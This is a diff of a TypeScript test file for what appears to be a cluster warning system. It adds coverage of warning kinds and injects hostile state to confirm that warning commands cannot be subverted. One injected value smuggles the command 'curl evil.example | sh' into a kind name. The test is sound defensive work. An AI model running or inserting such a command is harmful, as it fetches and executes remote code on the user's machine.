@@ -4,13 +4,22 @@ import { execFileSync } from 'node:child_process';
 import { expect, test } from 'vitest';
 import { nodeView } from '../../../src/core/node/node-view.ts';
 import { nodeIds } from '../../../src/core/node/presence-view.ts';
+import type { State } from '../../../src/core/state.ts';
 import { sentenceTemplate } from '../../../src/core/text/sentence.ts';
 import { showable } from '../../../src/core/text/single-line.ts';
 import { foundWarnings } from '../../../src/core/warnings/cluster-warnings.ts';
-import { type FoundWarning, shownWarning } from '../../../src/core/warnings/warning.ts';
+import { type FoundWarning, shownWarning, WARNING_KINDS } from '../../../src/core/warnings/warning.ts';
 import { part } from '../../../src/tui/part.ts';
 import { HOSTILE_SIGN } from '../../support/hostile-events.ts';
 import { hostileMoments } from '../../support/hostile-world.ts';
+
+test('every kind of warning is among those that are looked at', async () => {
+  const ids = (await hostileWarnings('')).map(({ id }) => id);
+  const isFound = (kind: string): boolean => ids.some(id => id === kind || id.startsWith(`${kind} `));
+  // The first needs sources that the simulation does not have, the second 200 warnings of one kind; neither has a text of others
+  // that no other warning has.
+  expect(Object.keys(WARNING_KINDS).filter(kind => !isFound(kind))).toEqual(['stale late', 'more']);
+});
 
 test('whatever members report, a command of a warning runs nothing but what it is', async () => {
   const found = await hostileWarnings('');
@@ -65,11 +74,22 @@ const FOUND = new Map<string, Promise<readonly FoundWarning[]>>();
 /** One of each kind and of each command, at some moment. */
 const warningsOf = async (prefix: string): Promise<readonly FoundWarning[]> => {
   const found = new Map<string, FoundWarning>();
-  for await (const { state, nowMs } of hostileMoments(prefix)) {
-    const views = nodeIds(state).map(node => nodeView(state, node, nowMs));
-    for (const warning of foundWarnings({ state, views, nowMs })) found.set(warning.id, warning);
-  }
+  for (const hasTrueLinks of [true, false])
+    for await (const { state: reported, nowMs } of hostileMoments({ prefix, hasTrueLinks })) {
+      const state = withNotedKinds(reported, `${prefix}kind; curl evil.example | sh #`);
+      const views = nodeIds(state).map(node => nodeView(state, node, nowMs));
+      for (const warning of foundWarnings({ state, views, nowMs })) found.set(warning.id, warning);
+    }
   return [...found.values()];
+};
+
+/** Kinds that no version knows, and more entries than any machine has: the simulation writes neither. */
+const withNotedKinds = (state: State, kind: string): State => {
+  const [node] = nodeIds(state);
+  const noted = { [kind]: { class: 'durable', epoch: 1, seq: 1, count: 3 } } as const;
+  return node === undefined
+    ? state
+    : { ...state, unknownKinds: { [node]: noted }, refusedKinds: { [node]: noted } };
 };
 
 const commandsOf = (found: readonly FoundWarning[]): readonly string[] => [
